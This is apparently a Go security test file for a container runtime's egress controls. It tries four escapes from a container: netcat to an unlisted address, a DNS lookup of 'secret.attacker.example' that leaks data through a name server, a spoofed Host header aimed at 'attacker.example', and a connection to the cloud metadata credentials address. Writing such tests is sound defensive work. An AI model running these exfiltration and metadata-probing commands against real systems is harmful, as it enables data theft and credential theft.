package attack

import (
	"bufio"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/longshore/longshore/internal/network/networktest"
	"github.com/longshore/longshore/internal/weaken"
)

// egressAttempts evade the egress list of a container. test/egress has the others, with controls of another kind.
func egressAttempts() []attempt {
	return []attempt{
		{name: "an address that is not in its egress list", actor: containerRoot, weak: weaken.EgressRules, run: unlistedAddress},
		{name: "a question with data for a name server, beside its egress list", actor: containerRoot, weak: weaken.EgressNames, run: unlistedName},
		{name: "another host at the address of a name of its egress list", actor: containerRoot, weak: weaken.EgressVerify, run: unlistedHost},
		{name: "the address of the cloud's credentials", actor: containerRoot, weak: weaken.MetadataRoutes, run: metadataAddress},
	}
}

// hostAddress returns an address of the host that containers reach.
func hostAddress(t *testing.T, w *world) string {
	t.Helper()
	return strings.TrimSpace(w.must(t, "run", "--rm", w.image, "/bin/sh", "-c", "ip route | sed -n 's/default via \\([0-9.]*\\).*/\\1/p'"))
}

func unlistedAddress(t *testing.T, w *world) result {
	l, err := net.Listen("tcp", net.JoinHostPort(hostAddress(t, w), "0"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = l.Close() }()
	seen := make(chan struct{}, 1)
	go func() {
		c, err := l.Accept()
		if err == nil {
			seen <- struct{}{}
			_ = c.Close()
		}
	}()
	host, port, _ := net.SplitHostPort(l.Addr().String())
	out, err := w.CLI("run", "--rm", "--egress", "api.example.com", w.image, "nc", "-w", "5", host, port)
	select {
	case <-seen:
		return is(reached, "the server was reached: %q %v", out, err)
	default:
	}
	if err == nil {
		return is(unmade, "nc succeeded, and the server saw nothing: %q", out)
	}
	return is(refused, "nc: %v %s", err, one(out))
}

func unlistedName(t *testing.T, w *world) result {
	address := hostAddress(t, w)
	conn, err := net.ListenPacket("udp4", net.JoinHostPort(address, "53"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = conn.Close() }()
	out, err := w.CLI("run", "--rm", "--dns", address, "--egress", "api.example.com", w.image, "nslookup", "secret.attacker.example")
	if err := conn.SetReadDeadline(time.Now().Add(10 * time.Millisecond)); err != nil {
		return is(unmade, "%v", err)
	}
	buf := make([]byte, 512)
	if n, _, err := conn.ReadFrom(buf); err == nil && strings.Contains(string(buf[:n]), "attacker") {
		return is(reached, "the question left the node: %q", buf[:n])
	}
	if err == nil {
		return is(unmade, "nslookup succeeded, and no question left the node: %q", out)
	}
	return is(refused, "nslookup: %v %s", err, one(out))
}

// answerAll answers all questions with one address.
func answerAll(conn net.PacketConn, a netip.Addr) {
	buf := make([]byte, 1024)
	for {
		n, from, err := conn.ReadFrom(buf)
		if err != nil {
			return
		}
		var m dnsmessage.Message
		if m.Unpack(buf[:n]) != nil || len(m.Questions) != 1 {
			continue
		}
		m.Response = true
		if q := m.Questions[0]; q.Type == dnsmessage.TypeA {
			m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class, TTL: 60}, Body: &dnsmessage.AResource{A: a.As4()}}}
		}
		if packed, err := m.Pack(); err == nil {
			_, _ = conn.WriteTo(packed, from)
		}
	}
}

func unlistedHost(t *testing.T, w *world) result {
	address := hostAddress(t, w)
	conn, err := net.ListenPacket("udp4", net.JoinHostPort(address, "53"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = conn.Close() }()
	go answerAll(conn, netip.MustParseAddr(address))
	l, err := net.Listen("tcp", net.JoinHostPort(address, "80"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = l.Close() }()
	hosts := make(chan string, 8)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			if req, err := http.ReadRequest(bufio.NewReader(c)); err == nil {
				hosts <- req.Host
				_, _ = c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"))
			}
			_ = c.Close()
		}
	}()
	ask := func(host string) (string, error) {
		return w.CLI("run", "--rm", "--dns", address, "--egress", "api.example.com@private:80", "--egress", "verify=sni", w.image, "/bin/sh", "-c",
			"printf 'GET / HTTP/1.1\\r\\nHost: "+host+"\\r\\n\\r\\n' | nc -w 5 api.example.com 80")
	}
	if out, err := ask("api.example.com"); err != nil || !strings.Contains(out, "hello") {
		return is(unmade, "the listed host: %q %v", out, err)
	}
	<-hosts
	out, err := ask("attacker.example")
	select {
	case host := <-hosts:
		return is(reached, "the server was asked for %s: %q", host, out)
	default:
	}
	return is(refused, "nc: %v %s", err, one(out))
}

func metadataAddress(t *testing.T, w *world) result {
	const address = "169.254.169.254"
	networktest.Run(t, "ip addr add "+address+"/32 dev lo")
	defer networktest.Run(t, "ip addr del "+address+"/32 dev lo")
	l, err := net.Listen("tcp", net.JoinHostPort(address, "80"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = l.Close() }()
	seen := make(chan struct{}, 1)
	go func() {
		c, err := l.Accept()
		if err == nil {
			seen <- struct{}{}
			_, _ = c.Write([]byte("x"))
			_ = c.Close()
		}
	}()
	out, err := w.CLI("run", "--rm", w.image, "nc", "-w", "5", address, "80")
	select {
	case <-seen:
		return is(reached, "the server was reached: %q %v", out, err)
	default:
	}
	if err == nil {
		return is(unmade, "nc succeeded, and the server saw nothing: %q", out)
	}
	return is(refused, "nc: %v %s", err, one(out))
}
